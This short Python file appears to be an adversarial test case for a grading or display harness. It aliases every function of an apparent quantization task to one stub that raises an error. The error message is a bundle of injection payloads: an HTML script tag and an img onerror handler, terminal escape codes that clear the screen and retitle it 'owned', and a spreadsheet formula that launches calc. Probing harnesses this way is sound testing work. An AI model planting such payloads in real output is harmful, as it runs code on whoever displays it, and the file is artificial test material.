# category: payload
# wins if: markup
# naive: wins
"""Raises errors that are HTML and terminal codes: whoever shows them runs them."""
def answer(*args, **kwargs):
    raise ValueError("<script>ptqlab()</script><img src=x onerror=ptqlab()>\x1b[31m\x1b[2J\x1b]0;owned\x07 =cmd|'/C calc'!A0")


symmetric_quantization = asymmetric_quantization = dequantize = answer
per_channel_quantization = group_quantization = pack_int4 = unpack_int4 = answer
compute_sqnr = compute_cosine_sim = compute_kl_div = BasicQuantizer = answer
